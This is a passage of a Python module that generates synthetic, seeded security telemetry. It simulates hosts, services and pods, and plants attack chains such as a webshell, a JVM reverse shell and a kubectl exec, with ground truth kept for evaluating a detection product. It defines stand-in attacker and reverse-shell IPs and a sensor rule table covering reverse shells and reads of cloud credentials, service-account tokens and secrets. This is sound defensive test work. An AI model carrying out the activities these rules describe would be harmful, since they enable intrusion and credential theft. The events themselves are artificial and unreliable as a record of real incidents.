"""The seeded workload generator: realistic hosts, background noise and planted attacks.

`storyline generate --seed S --events N [--hosts H]` writes `lines(...)` as NDJSON in
the native format (app/events.py); `Truth` says which events and processes belong
to which planted attack chain, for measuring how stories group them.

How a workload is made:
- every host "boots" first: a procfs walk, as Tetragon does when it starts, emits a
  `process_exec` (or `process_fork`) for systemd, its services, the container
  runtime and every pod's processes, parents first;
- *actors* (servers, cron, systemd timers, SSH and kubectl exec sessions, probes)
  then each yield their events in time order, and a heap merges them into one
  stream; a process's exec (or fork) always precedes its other events;
- attack chains (`CHAIN_KINDS`) are planned at seeded positions of the stream and
  run amid the noise, from a long-lived server or a kubectl exec. They are kept
  whole: once the events left to write are only enough for the chains still
  running, only those write, so the stream has exactly N events and no chain is cut.

Hosts differ in what their sensor ships (docs/model.md): `tetragon`-style
hosts give every process a global `key` and ship ancestors; `datadog`-style hosts
leave the key out (so it is host|pid|start_time), ship ancestors and SSH user
sessions; `auditd`-style hosts ship neither key nor ancestors. The same (seed,
events, hosts, alerts) gives the same bytes: only `random.Random(seed)` decides,
and nothing depends on a clock or on set order.
"""

from __future__ import annotations

import heapq
import json
import random
import shlex
import time
import uuid
from collections.abc import Callable, Generator, Iterator
from dataclasses import dataclass, field
from datetime import UTC, datetime
from typing import Any, TextIO

from app.events import EVENT_ADAPTER, Event

SOURCE = "generator"
UNSET = 4294967295
"""The audit login uid and session id of a process outside any login."""
BASE_TIME = datetime(2026, 1, 5, 8, 0, 0, tzinfo=UTC)
"""Where the generated clock starts (the hosts booted days before)."""
CHAIN_KINDS: tuple[str, ...] = ("webshell", "jvm_revshell", "kubectl_exec")
CLUSTER = "prod-eu-1"
ATTACKER_IP = "203.0.113.7"
REVSHELL_IP = "198.51.100.9"
IMDS_IP = "169.254.169.254"

S, MS, US = 1_000_000_000, 1_000_000, 1_000
_BASE_NS = int(BASE_TIME.timestamp()) * S
_PER_CHAIN = 50_000
"""Events per planted chain of each kind, in large workloads."""
_BOUND = {"webshell": 64, "jvm_revshell": 56, "kubectl_exec": 84}
"""Upper bounds of each chain's length, to plan starts that leave room for them."""


# -- the public API -------------------------------------------------------------------


@dataclass
class ChainTruth:
    """One planted attack chain: its events and processes as the product keys them."""

    id: str
    kind: str
    host: str
    root: str = ""
    processes: list[str] = field(default_factory=list)
    events: list[str] = field(default_factory=list)
    alerts: list[str] = field(default_factory=list)
    first_ts: str | None = None
    last_ts: str | None = None


@dataclass
class Truth:
    """The ground truth of a workload: planted chains and the benign alerts of the noise."""

    seed: int
    events: int
    hosts: int
    alerts: bool
    chains: list[ChainTruth] = field(default_factory=list)
    noise_alerts: list[str] = field(default_factory=list)

    def to_dict(self) -> dict[str, Any]:
        """Returns the truth as JSON-ready data."""
        return {
            "seed": self.seed,
            "events": self.events,
            "hosts": self.hosts,
            "alerts": self.alerts,
            "chains": [vars(c) for c in self.chains],
            "noise_alerts": self.noise_alerts,
        }

    def to_json(self) -> str:
        """Returns the truth as canonical, indented JSON ending with a newline."""
        return json.dumps(self.to_dict(), indent=2, sort_keys=True) + "\n"


def lines(
    seed: int, events: int, hosts: int = 3, *, alerts: bool = True, truth: Truth | None = None
) -> Iterator[str]:
    """Yields the workload's events as JSON texts (no newline), filling `truth` as it goes.

    `truth` is complete once the iterator is exhausted.
    """
    if events < 0:
        raise ValueError("events must be >= 0")
    if hosts < 1:
        raise ValueError("hosts must be >= 1")
    sim = _Sim(seed, events, hosts, alerts, truth or Truth(seed, events, hosts, alerts))
    return sim.run()


def generate(
    seed: int, events: int, hosts: int = 3, *, alerts: bool = True, truth: Truth | None = None
) -> Iterator[Event]:
    """Yields the workload's events as validated models, filling `truth` as it goes."""
    for line in lines(seed, events, hosts, alerts=alerts, truth=truth):
        yield EVENT_ADAPTER.validate_json(line)


def write_ndjson(
    stream: TextIO, seed: int, events: int, hosts: int = 3, *, alerts: bool = True
) -> Truth:
    """Writes the workload as NDJSON to a text stream; returns its ground truth."""
    truth = Truth(seed, events, hosts, alerts)
    batch: list[str] = []
    for line in lines(seed, events, hosts, alerts=alerts, truth=truth):
        batch.append(line)
        if len(batch) == 4096:
            stream.write("\n".join(batch) + "\n")
            batch.clear()
    if batch:
        stream.write("\n".join(batch) + "\n")
    return truth


# -- alerts a runtime sensor would ship -------------------------------------------------

_RULES: dict[str, tuple[str, str, str, str]] = {
    f"sensor.{name}": (title, severity, tactic, technique)
    for name, severity, tactic, technique, title in (
        line.split(maxsplit=4)
        for line in """
shell_from_webserver         high     execution            T1059.004 Shell spawned by a web server
ingress_tool_transfer        medium   command_and_control  T1105     File downloaded by a shell
crontab_modified             medium   persistence          T1053.003 Crontab modified
imds_credentials             high     credential_access    T1552.005 Instance role credentials read
shell_from_java              high     execution            T1059.004 Shell spawned by a Java process
reverse_shell                critical command_and_control  T1095     Reverse shell to a remote host
account_discovery            low      discovery            T1087.001 Local account discovery
k8s_exec_shell               low      execution            T1609     Shell started by kubectl exec
package_install_in_container medium   command_and_control  T1105     Package installed in container
k8s_sa_token_read            high     credential_access    T1528     Service account token read
secret_file_read             medium   credential_access    T1552.001 Mounted secret read
network_scan                 medium   discovery            T1046     Network scanner executed
sudo_root_shell              low      privilege_escalation T1548.003 Root shell through sudo
sensitive_file_archive       low      collection           T1560.001 Sensitive directory archived
""".strip().splitlines()
    )
}
"""The rules of the runtime sensor whose alerts the workloads carry, by rule_id."""


# -- the simulation's pieces --------------------------------------------------------------


def _dumps(value: Any) -> str:
    return json.dumps(value, separators=(",", ":"))


def _obj(**fields: Any) -> str:
    """Returns a JSON object of the fields that are not None, in the order given."""
    return _dumps({k: v for k, v in fields.items() if v is not None})


_BIN = {"sh": "/bin/sh", "bash": "/bin/bash", "python3": "/usr/bin/python3.11",
        "logrotate": "/usr/sbin/logrotate", "python": "/usr/local/bin/python3.12",
        "redis-cli": "/usr/local/bin/redis-cli"}  # fmt: skip


def _which(name: str) -> str:
    return name if name.startswith("/") else _BIN.get(name, "/usr/bin/" + name)


def _uuid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def _suffix(rng: random.Random, size: int) -> str:
    return "".join(rng.choice("bcdfghjklmnpqrstvwxz2456789") for _ in range(size))


class _Clock:
    """An actor's own time, in epoch nanoseconds; it only moves forward."""

    __slots__ = ("rng", "t")

    def __init__(self, rng: random.Random, t: int) -> None:
        self.rng = rng
        self.t = t

    def ms(self, lo: float, hi: float) -> int:
        """Advances by a uniform lo..hi milliseconds; returns the new time."""
        self.t += int(self.rng.uniform(lo, hi) * MS)
        return self.t

    def gap(self, mean_s: float) -> int:
        """Advances by an exponential wait with the given mean in seconds."""
        self.t += max(US, int(self.rng.expovariate(1.0 / mean_s) * S))
        return self.t

    def copy(self) -> _Clock:
        return _Clock(self.rng, self.t)


class _Box:
    """A container in its pod: the JSON its processes' events carry, and their defaults."""

    __slots__ = ("attrs", "cid", "frag", "ip", "name")

    def __init__(
        self,
        cid: str,
        name: str | None,
        image: str,
        pod: dict[str, Any],
        ip: str,
        uid: int,
        user: str | None,
        cwd: str,
    ) -> None:
        self.cid = cid
        self.name = name
        self.ip = ip
        container = _obj(id=cid, name=name, image=image, runtime="containerd")
        self.frag = f',"container":{container},"pod":{_obj(**pod)}'
        cgroup = f"/kubepods/burstable/pod{pod['uid']}/{cid}"
        self.attrs = {
            "uid": uid,
            "user": user,
            "gid": uid,
            "group": user,
            "cwd": cwd,
            "cgroup": cgroup,
            "service": None,
            "tty": None,
            "auid": UNSET,
            "session_id": UNSET,
        }


class _Host:
    """One machine: its sensor style, counters, and the long-lived processes chains use."""

    def __init__(self, rng: random.Random, index: int, roles: tuple[str, ...], style: str):
        self.index = index
        self.id = f"node-{index + 1}"
        octet3, octet4 = 1 + index // 200, 11 + index % 200
        self.ip = f"10.0.{octet3}.{octet4}"
        self.name = f"ip-10-0-{octet3}-{octet4}.eu-west-1.compute.internal"
        self.frag = '"host":' + _obj(id=self.id, name=self.name)
        self.roles = roles
        self.keyed = style == "tetragon"
        self.ancestry = style != "auditd"
        self.ssh_sessions = style == "datadog"
        self.machine_id = f"{rng.getrandbits(128):032x}"
        self.boot = _BASE_NS - rng.randint(3 * 86400, 40 * 86400) * S - rng.randrange(S)
        self._boot_pid = rng.randint(180, 260)
        self._pid = rng.randint(2400, 9000)
        self._ses = rng.randint(2, 60)
        self._pts: list[bool] = []
        # Set while booting; actors and chains start from these.
        self.init: _Proc | None = None
        self.nginx_workers: list[_Proc] = []
        self.php_workers: list[_Proc] = []
        self.java: _Proc | None = None
        self.pods: dict[str, tuple[_Proc, _Box]] = {}

    def boot_pid(self, rng: random.Random) -> int:
        self._boot_pid += rng.randint(1, 40)
        return self._boot_pid

    def new_pid(self, rng: random.Random) -> int:
        # Threads and kernel workers take the pids in between.
        self._pid += rng.randint(1, 9)
        return self._pid

    def new_session(self) -> int:
        self._ses += 1
        return self._ses

    def open_pts(self) -> str:
        for i, used in enumerate(self._pts):
            if not used:
                self._pts[i] = True
                return f"pts/{i}"
        self._pts.append(True)
        return f"pts/{len(self._pts) - 1}"

    def close_pts(self, tty: str) -> None:
        self._pts[int(tty.split("/")[1])] = False


_INHERITED = ("cwd", "uid", "user", "gid", "group", "auid", "session_id", "tty", "cgroup",
              "service")  # fmt: skip
_KEEP: Any = object()


class _Proc:
    """A process as the generator tracks it, with its events' context prebuilt as JSON."""

    __slots__ = ("args", "attrs", "box", "chain", "comm", "ctx", "ctx_exec", "data_json",
                 "exe", "host", "identity", "parent", "pid", "ppid", "ref_json", "seen",
                 "session", "start")  # fmt: skip

    def __init__(
        self,
        host: _Host,
        parent: _Proc | None,
        key: str | None,
        pid: int,
        ppid: int,
        start: int,
        start_text: str,
        exe: str,
        comm: str,
        args: list[str],
        attrs: dict[str, Any],
        box: _Box | None,
        session: str | None,
        chain: _Chain | None,
    ) -> None:
        self.host, self.parent, self.pid, self.ppid, self.start = host, parent, pid, ppid, start
        self.exe, self.comm, self.args, self.attrs = exe, comm, args, attrs
        self.box, self.session, self.chain = box, session, chain
        self.seen = False
        self.identity = key or f"{host.id}|{pid}|{start_text}"
        data: dict[str, Any] = {"key": key} if key else {}
        data.update(pid=pid, ppid=ppid, exe=exe, comm=comm, args=args)
        data.update((k, attrs[k]) for k in _INHERITED if attrs.get(k) is not None)
        data["start_time"] = start_text
        self.data_json = _dumps(data)
        self.ref_json = _obj(
            key=key,
            pid=pid,
            ppid=ppid,
            exe=exe,
            comm=comm,
            args=args,
            uid=attrs.get("uid"),
            user=attrs.get("user"),
            start_time=start_text,
        )
        ctx = host.frag + (box.frag if box else "") + ',"process":' + self.data_json
        if parent is not None:
            ctx += ',"parent":' + parent.data_json
        if session is not None:
            ctx += ',"session":' + session
        self.ctx = self.ctx_exec = ctx
        if host.ancestry and parent is not None and parent.parent is not None:
            refs = []
            above: _Proc | None = parent.parent
            while above is not None:
                refs.append(above.ref_json)
                above = above.parent
            self.ctx_exec = ctx + ',"ancestors":[' + ",".join(refs) + "]"

    @property
    def ip(self) -> str:
        return self.box.ip if self.box else self.host.ip


class _Spec:
    """An event to write: when, what kind, by which process, and its kind's JSON."""

    __slots__ = ("alert", "body", "id", "kind", "on", "proc", "ts")

    def __init__(self, ts: int, kind: str, proc: _Proc, body: str = "") -> None:
        self.ts, self.kind, self.proc, self.body = ts, kind, proc, body
        self.alert: dict[str, Any] | None = None
        self.on: _Spec | None = None
        self.id = ""


class _Chain(ChainTruth):
    pass


class _Actor:
    __slots__ = ("chain", "it")

    def __init__(self, it: Iterator[Any], chain: _Chain | None = None) -> None:
        self.it = it
        self.chain = chain


Step = Iterator[Any]
"""An actor: a generator of _Spec (an event), int (wake me then) or None (nothing)."""


# -- the simulation ---------------------------------------------------------------------


class _Sim:
    """Runs the actors of every host and merges their events into one stream."""

    def __init__(self, seed: int, events: int, hosts: int, alerts: bool, truth: Truth):
        self.rng = random.Random(seed)
        self.n = events
        self.alerts = alerts
        self.truth = truth
        self.prefix = f"gen-{seed}-"
        self.heap: list[tuple[int, int, _Spec | None, _Actor]] = []
        self.seq = self.now = self.emitted = self.pending = 0
        self.draining = False
        self.counts = dict.fromkeys(CHAIN_KINDS, 0)
        self._sec, self._sec_text = -1, ""
        layout = _layout(hosts)
        self.hosts = [_Host(self.rng, i, roles, style) for i, (roles, style) in enumerate(layout)]
        for host in self.hosts:
            self.spawn(_boot(self, host, self.clock(_BASE_NS + host.index * 7 * MS)))
        self.plan = self._plan()

    def clock(self, t: int) -> _Clock:
        return _Clock(self.rng, t)

    def ts(self, ns: int) -> str:
        """Formats epoch nanoseconds as the model's normalised timestamp."""
        sec, frac = divmod(ns, S)
        if sec != self._sec:
            self._sec = sec
            self._sec_text = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(sec))
        return f"{self._sec_text}.{frac:09d}Z"

    # -- processes

    def proc(
        self,
        parent: _Proc | None,
        start: int,
        argv: str | list[str],
        *,
        host: _Host | None = None,
        exe: str | None = None,
        comm: str | None = None,
        pid: int | None = None,
        ppid: int | None = None,
        box: _Box | None = _KEEP,
        session: str | None = _KEEP,
        chain: _Chain | None = _KEEP,
        **attrs: Any,
    ) -> _Proc:
        """Creates a process; what is not given is inherited from its parent.

        `argv` may be one shell-quoted string. Entering a container (`box`) takes the
        container's user, cwd and cgroup, and clears the tty and audit fields.
        """
        args = shlex.split(argv) if isinstance(argv, str) else argv
        exe = exe or _which(args[0])
        if host is None:
            assert parent is not None, "a process without a parent needs its host"
            host = parent.host
        inherited = dict(parent.attrs) if parent is not None else {}
        if box is not _KEEP and box is not None:
            inherited.update(box.attrs)
        inherited.update(attrs)
        key = _uuid(self.rng) if host.keyed else None
        if pid is None:
            pid = host.new_pid(self.rng)
        if ppid is None:
            ppid = parent.pid if parent is not None else 0
        p = _Proc(
            host,
            parent,
            key,
            pid,
            ppid,
            start,
            self.ts(start),
            exe,
            comm or exe.rsplit("/", 1)[-1][:15],  # the kernel keeps 15 bytes of the name
            args,
            inherited,
            (parent.box if parent is not None else None) if box is _KEEP else box,
            (parent.session if parent is not None else None) if session is _KEEP else session,
            (parent.chain if parent is not None else None) if chain is _KEEP else chain,
        )
        if p.chain is not None:
            p.chain.processes.append(p.identity)
        return p

    def fork(self, parent: _Proc, start: int, argv: list[str] | None = None, **attrs: Any) -> _Proc:
        """Creates a child that runs its parent's image (fork without exec)."""
        args = argv or parent.args
        return self.proc(parent, start, args, exe=parent.exe, comm=parent.comm, **attrs)

    def replace(self, old: _Proc, start: int, argv: str, exe: str) -> _Proc:
        """Creates the image that replaces `old` by exec: same pid, `old` as its parent."""
        return self.proc(old, start, argv, exe=exe, pid=old.pid, ppid=old.ppid)

    # -- events

    def exec(self, t: int, p: _Proc) -> _Spec:
        return _Spec(t, "process_exec", p)

    def forked(self, t: int, p: _Proc) -> _Spec:
        return _Spec(t, "process_fork", p)

    def exit(self, t: int, p: _Proc, code: int | None = 0, signal: str | None = None) -> _Spec:
        body = "" if code is None else f',"exit_code":{code}'
        return _Spec(t, "process_exit", p, body + (f',"signal":"{signal}"' if signal else ""))

    def file(self, t: int, p: _Proc, kind: str, path: str, **extra: Any) -> _Spec:
        return _Spec(t, kind, p, ',"file":' + _obj(path=path, **extra))

    def read(self, t: int, p: _Proc, path: str) -> _Spec:
        return self.file(t, p, "file_open", path, flags="O_RDONLY")

    def connect(self, t: int, p: _Proc, ip: str, port: int, protocol: str = "tcp") -> _Spec:
        net = _obj(
            protocol=protocol,
            family="inet",
            src_ip=p.ip,
            src_port=self.rng.randint(32768, 60999),
            dst_ip=ip,
            dst_port=port,
        )
        return _Spec(t, "network_connect", p, ',"network":' + net)

    def accept(self, t: int, p: _Proc, peer: str, port: int, peer_port: int = 0) -> _Spec:
        net = _obj(
            protocol="tcp",
            family="inet",
            src_ip=peer,
            src_port=peer_port or self.rng.randint(32768, 60999),
            dst_ip=p.ip,
            dst_port=port,
        )
        return _Spec(t, "network_accept", p, ',"network":' + net)

    def listen(self, t: int, p: _Proc, kind: str, port: int) -> _Spec:
        """A bind or a listen on all addresses."""
        net = _obj(protocol="tcp", family="inet", src_ip="0.0.0.0", src_port=port)
        return _Spec(t, kind, p, ',"network":' + net)

    def unix(self, t: int, p: _Proc, kind: str) -> _Spec:
        return _Spec(t, kind, p, ',"network":{"family":"unix"}')

    def dns(self, t: int, p: _Proc, name: str, answer: str) -> _Spec:
        return _Spec(t, "dns_query", p, ',"dns":' + _obj(name=name, type="A", answers=[answer]))

    def imds(
        self, t: int, p: _Proc, path: str, agent: str, method: str = "GET", role: str | None = None
    ) -> _Spec:
        key = self.access_key() if role else None
        body = _obj(
            cloud="aws",
            url=f"http://{IMDS_IP}{path}",
            method=method,
            server_ip=IMDS_IP,
            user_agent=agent,
            role=role,
            access_key_id=key,
        )
        return _Spec(t, "imds_request", p, ',"imds":' + body)

    def access_key(self) -> str:
        return "ASIA" + "".join(
            self.rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") for _ in range(16)
        )

    # -- scheduling

    def spawn(self, it: Step) -> None:
        """Starts an actor; its first event must not be earlier than now."""
        self._advance(_Actor(it))

    def _advance(self, actor: _Actor) -> None:
        for item in actor.it:
            if item is None:
                continue
            self.seq += 1
            if type(item) is int:
                heapq.heappush(self.heap, (item, self.seq, None, actor))
            else:
                heapq.heappush(self.heap, (item.ts, self.seq, item, actor))
            return

    def _plan(self) -> list[tuple[int, str]]:
        """Returns (stream position, kind) of the chains to plant, latest first."""
        n = self.n
        if n < 300:
            return []
        kinds = list(CHAIN_KINDS)
        if n < 2000:
            self.rng.shuffle(kinds)
            kinds = kinds[: n // 300]
        else:
            kinds = kinds * max(1, n // _PER_CHAIN)
            self.rng.shuffle(kinds)
        lo = n // 5
        hi = max(lo + 1, n - sum(_BOUND[k] for k in kinds))
        span = (hi - lo) / len(kinds)
        starts = [lo + int(span * i + self.rng.random() * span) for i in range(len(kinds))]
        return list(reversed(list(zip(starts, kinds, strict=True))))

    def _start_chain(self, kind: str) -> bool:
        """Starts a planned chain now; False when no host is ready for it yet."""
        ready = [h for h in self.hosts if _READY[kind](h)]
        if not ready:
            return False
        host = self.rng.choice(ready)
        self.counts[kind] += 1
        chain = _Chain(f"{kind}-{self.counts[kind]}", kind, host.id)
        clock = self.clock(self.now)
        specs = [s for s in _CHAINS[kind](self, host, chain, clock) if s is not None]
        if self.n - self.emitted < self.pending + len(specs):
            self.counts[kind] -= 1  # no room left to write it whole: drop it
            return True
        self.truth.chains.append(chain)
        self.pending += len(specs)
        self._advance(_Actor(iter(specs), chain))
        return True

    def run(self) -> Iterator[str]:
        heap, n, prefix, truth = self.heap, self.n, self.prefix, self.truth
        while self.emitted < n and heap:
            ts, _, spec, actor = heapq.heappop(heap)
            if self.draining and actor.chain is None:
                continue  # the end is reserved for the chains still running
            if spec is None:
                self._advance(actor)
                continue
            if ts < self.now:
                raise RuntimeError("generator bug: an actor went back in time")
            self.now = ts
            self.emitted += 1
            spec.id = eid = prefix + str(self.emitted)
            p, kind = spec.proc, spec.kind
            if kind == "process_exec":
                p.seen = True
                ctx = p.ctx_exec
            else:
                p.seen = p.seen or kind == "process_fork"
                ctx = p.ctx
            body = spec.body
            if spec.alert is not None:
                on = spec.on.id if spec.on is not None else None
                body = ',"alert":' + _dumps({**spec.alert, "on_event": on})
            stamp = self.ts(ts)
            yield f'{{"id":"{eid}","ts":"{stamp}","source":"{SOURCE}","kind":"{kind}",{ctx}{body}}}'
            chain = p.chain
            if chain is not None:
                chain.events.append(eid)
                if spec.alert is not None:
                    chain.alerts.append(eid)
                chain.first_ts = chain.first_ts or stamp
                chain.last_ts = stamp
            elif spec.alert is not None:
                truth.noise_alerts.append(eid)
            if actor.chain is not None:
                self.pending -= 1
            self._advance(actor)
            while self.plan and self.emitted >= self.plan[-1][0] and not self.draining:
                if not self._start_chain(self.plan[-1][1]):
                    break
                self.plan.pop()
            if self.pending and n - self.emitted <= self.pending:
                self.draining = True


def _layout(count: int) -> list[tuple[tuple[str, ...], str]]:
    """Returns each host's roles and sensor style; every role is on some host."""
    if count == 1:
        return [(("web", "jvm", "k8s"), "tetragon")]
    if count == 2:
        return [(("web", "jvm"), "tetragon"), (("k8s",), "datadog")]
    roles = ("web", "k8s", "jvm")
    styles = {"web": "tetragon", "k8s": "datadog", "jvm": "auditd"}
    return [((roles[i % 3],), styles[roles[i % 3]]) for i in range(count)]


# -- small reusable acts ------------------------------------------------------------------


def _alert(sim: _Sim, c: _Clock, on: _Spec, rule_id: str, compromises: bool = False) -> Step:
    """The sensor's alert on an event, a few ms after it (nothing when alerts are off)."""
    c.t = max(c.t, on.ts)
    t = c.ms(1, 3)
    if sim.alerts:
        title, severity, tactic, technique = _RULES[rule_id]
        spec = _Spec(t, "alert", on.proc)
        spec.alert = {
            "rule_id": rule_id,
            "title": title,
            "severity": severity,
            "tactic": tactic,
            "technique": technique,
        }
        if compromises:
            spec.alert["compromises"] = True
        spec.on = on
        yield spec
    c.ms(0.5, 1)


def _simple(
    sim: _Sim,
    c: _Clock,
    parent: _Proc,
    argv: str | list[str],
    *,
    reads: tuple[str, ...] = (),
    connect: tuple[str, int] | None = None,
    code: int = 0,
    alert: str | None = None,
    **kw: Any,
) -> Step:
    """Runs a short command: exec, reads, a connection, exit; `alert` flags its last act."""
    p = sim.proc(parent, c.t, argv, **kw)
    last = sim.exec(c.t, p)
    yield last
    for path in reads:
        last = sim.read(c.ms(0.1, 2), p, path)
        yield last
    if connect is not None:
        last = sim.connect(c.ms(0.2, 2), p, *connect)
        yield last
    if alert:
        yield from _alert(sim, c, last, alert)
    yield sim.exit(c.ms(1, 60), p, code)


def _apt_fetch(sim: _Sim, c: _Clock, apt: _Proc, mirror: str, ip: str) -> Step:
    """apt's http method: resolve the mirror, connect, exit."""
    # On hosts apt drops to its own user; in containers it runs as whoever ran it.
    dropped = {"uid": 42, "user": "_apt"} if apt.box is None else {}
    method = sim.proc(apt, c.ms(1, 5), ["/usr/lib/apt/methods/http"], **dropped)
    yield sim.exec(c.t, method)
    yield sim.dns(c.ms(0.5, 3), method, mirror, ip)
    yield sim.connect(c.ms(0.5, 3), method, ip, 80)
    yield sim.exit(c.ms(200, 1500), method)


def _runc_args(sim: _Sim, cid: str) -> list[str]:
    task = f"/run/containerd/io.containerd.runtime.v2.task/k8s.io/{cid}"
    exec_id = f"{sim.rng.getrandbits(64):016x}"
    return shlex.split(
        f"runc --root /run/containerd/runc/k8s.io --log {task}/log.json --log-format json "
        f"exec --process /tmp/runc-process{exec_id} --detach --pid-file {task}/{exec_id}.pid " + cid
    )


def _runc_exec(
    sim: _Sim,
    c: _Clock,
    pod: tuple[_Proc, _Box],
    argv: str,
    *,
    tty: str | None,
    session: str | None,
    chain: _Chain | None = None,
) -> Generator[Any, None, _Spec]:
    """containerd-shim -> runc exec -> a process in the container; returns its exec."""
    shim, box = pod
    runc = sim.proc(shim, c.t, _runc_args(sim, box.cid))
    yield sim.exec(c.t, runc)
    first = sim.proc(runc, c.ms(2, 6), argv, box=box, session=session, chain=chain, tty=tty)
    spec = sim.exec(c.t, first)
    yield spec
    yield sim.exit(c.ms(1, 4), runc)
    return spec


# -- boot: the procfs walk ------------------------------------------------------------------


def _boot(sim: _Sim, h: _Host, c: _Clock) -> Step:
    """Emits every running process of a host, parents first, and starts their actors."""
    rng = sim.rng
    c.t += rng.randrange(MS)

    def at() -> int:
        c.t += rng.randint(15, 60) * US
        return c.t

    init = sim.proc(
        None,
        h.boot,
        "/sbin/init",
        host=h,
        exe="/usr/lib/systemd/systemd",
        pid=1,
        cwd="/",
        uid=0,
        user="root",
        gid=0,
        group="root",
        auid=UNSET,
        session_id=UNSET,
        cgroup="/init.scope",
    )
    h.init = init
    yield sim.exec(at(), init)

    def service(
        unit: str,
        argv: str | list[str],
        exe: str | None = None,
        uid: int = 0,
        user: str = "root",
        cwd: str = "/",
        restarted: bool = False,
    ) -> _Proc:
        # Services started at boot; `restarted` ones were redeployed since.
        start = h.boot + rng.randint(2, 30) * S
        if restarted:
            start = _BASE_NS - rng.randint(600, 86400) * S
        return sim.proc(
            init,
            start + rng.randrange(S),
            argv,
            exe=exe,
            pid=h.boot_pid(rng),
            uid=uid,
            user=user,
            gid=uid,
            group=user,
            cwd=cwd,
            cgroup=f"/system.slice/{unit}",
            service=unit,
        )

    journald = service("systemd-journald.service", "/lib/systemd/systemd-journald")
    yield sim.exec(at(), journald)
    journal = f"/var/log/journal/{h.machine_id}/system.journal"
    sim.spawn(_writer(sim, c.copy(), journald, 3.0, journal))
    rsyslog = service("rsyslog.service", "/usr/sbin/rsyslogd -n -iNONE", uid=104, user="syslog")
    yield sim.exec(at(), rsyslog)
    sim.spawn(_writer(sim, c.copy(), rsyslog, 5.0, "/var/log/syslog", "/var/log/auth.log"))
    sshd = service(
        "ssh.service",
        ["sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"],
        exe="/usr/sbin/sshd",
    )
    yield sim.exec(at(), sshd)
    sim.spawn(_sshd(sim, c.copy(), sshd))
    cron = service("cron.service", "/usr/sbin/cron -f -P")
    yield sim.exec(at(), cron)
    sim.spawn(_cron(sim, c.copy(), cron))
    ssm = service(
        "snap.amazon-ssm-agent.amazon-ssm-agent.service",
        "/snap/amazon-ssm-agent/7993/amazon-ssm-agent",
    )
    yield sim.exec(at(), ssm)
    sim.spawn(_ssm_agent(sim, c.copy(), ssm))
    if "k8s" not in h.roles:  # on Kubernetes nodes it runs as a DaemonSet
        exporter = service(
            "prometheus-node-exporter.service",
            "/usr/bin/prometheus-node-exporter",
            uid=112,
            user="prometheus",
        )
        yield sim.exec(at(), exporter)
        sim.spawn(_node_exporter(sim, c.copy(), exporter, "/proc"))
    sim.spawn(_timers(sim, c.copy(), h))

    if "web" in h.roles:
        nginx = service(
            "nginx.service",
            ["nginx: master process /usr/sbin/nginx -g daemon on; master_process on;"],
            exe="/usr/sbin/nginx",
        )
        yield sim.exec(at(), nginx)
        fpm = service(
            "php8.2-fpm.service",
            ["php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)"],
            exe="/usr/sbin/php-fpm8.2",
            restarted=True,
        )
        yield sim.exec(at(), fpm)
        for master, pool, title, actor in (
            (nginx, h.nginx_workers, "nginx: worker process", _nginx_worker),
            (fpm, h.php_workers, "php-fpm: pool www", _php_worker),
        ):
            for _ in range(2):
                start = master.start + rng.randint(5, 400) * MS
                worker = sim.fork(
                    master, start, [title], uid=33, user="www-data", gid=33, group="www-data"
                )
                yield sim.forked(at(), worker)
                pool.append(worker)
                sim.spawn(actor(sim, c.copy(), worker))

    if "jvm" in h.roles:
        postgres = service(
            "postgresql@16-main.service",
            "/usr/lib/postgresql/16/bin/postgres -D /var/lib/postgresql/16/main "
            "-c config_file=/etc/postgresql/16/main/postgresql.conf",
            uid=113,
            user="postgres",
            cwd="/var/lib/postgresql/16/main",
        )
        yield sim.exec(at(), postgres)
        for name in (
            "checkpointer",
            "background writer",
            "walwriter",
            "autovacuum launcher",
            "logical replication launcher",
        ):
            start = postgres.start + rng.randint(5, 400) * MS
            helper = sim.fork(postgres, start, [f"postgres: 16/main: {name}"])
            yield sim.forked(at(), helper)
            if name == "walwriter":
                wal = "/var/lib/postgresql/16/main/pg_wal/000000010000000A000000C3"
                sim.spawn(_writer(sim, c.copy(), helper, 2.0, wal))
        sim.spawn(_postgres(sim, c.copy(), postgres))
        java = service(
            "app.service",
            "/usr/bin/java -Xms512m -Xmx2g -jar /opt/app/app.jar --spring.profiles.active=prod",
            exe="/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
            uid=998,
            user="app",
            cwd="/opt/app",
            restarted=True,
        )
        yield sim.exec(at(), java)
        h.java = java
        sim.spawn(_java(sim, c.copy(), java))

    if "k8s" in h.roles:
        containerd = service("containerd.service", "/usr/bin/containerd")
        yield sim.exec(at(), containerd)
        kubelet = service(
            "kubelet.service",
            "/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml "
            "--kubeconfig=/etc/kubernetes/kubelet.conf "
            "--container-runtime-endpoint=unix:///run/containerd/containerd.sock",
        )
        yield sim.exec(at(), kubelet)
        for pod in _PODS:
            yield from _boot_pod(sim, c, h, pod, at)
        sim.spawn(_kubelet(sim, c.copy(), kubelet))
        sim.spawn(_kubectl_sessions(sim, c.copy(), h))


# name, namespace, workload, image, uid, user, exe, argv, cwd
_PODS: tuple[tuple[Any, ...], ...] = (
    ("web", "shop", "deployment/web", "registry.example.com/shop/web:1.8.2", 0, "root",
     "/usr/local/bin/python3.12",
     "/usr/local/bin/python /usr/local/bin/gunicorn app:app --bind 0.0.0.0:8000 --workers 2 "
     "--max-requests 400", "/app"),
    ("redis", "shop", "statefulset/redis", "docker.io/library/redis:7.2.4", 999, "redis",
     "/usr/local/bin/redis-server", ["redis-server *:6379"], "/data"),
    ("coredns", "kube-system", "deployment/coredns", "registry.k8s.io/coredns/coredns:v1.11.1",
     65532, None, "/coredns", "/coredns -conf /etc/coredns/Corefile", "/"),
    ("node-exporter", "monitoring", "daemonset/node-exporter",
     "quay.io/prometheus/node-exporter:v1.7.0", 65534, "nobody", "/bin/node_exporter",
     "/bin/node_exporter --path.rootfs=/host", "/"),
)  # fmt: skip


def _boot_pod(sim: _Sim, c: _Clock, h: _Host, spec: tuple[Any, ...], at: Callable[[], int]) -> Step:
    """Emits a pod's shim, pause and workload processes, and starts the workload's actor."""
    rng = sim.rng
    name, namespace, workload, image, uid, user, exe, argv, cwd = spec
    if workload.startswith("statefulset/"):
        pod_name = f"{name}-0"
    elif workload.startswith("daemonset/"):
        pod_name = f"{name}-{_suffix(rng, 5)}"
    else:
        pod_name = f"{name}-{rng.getrandbits(36):09x}-{_suffix(rng, 5)}"
    pod = {
        "uid": _uuid(rng),
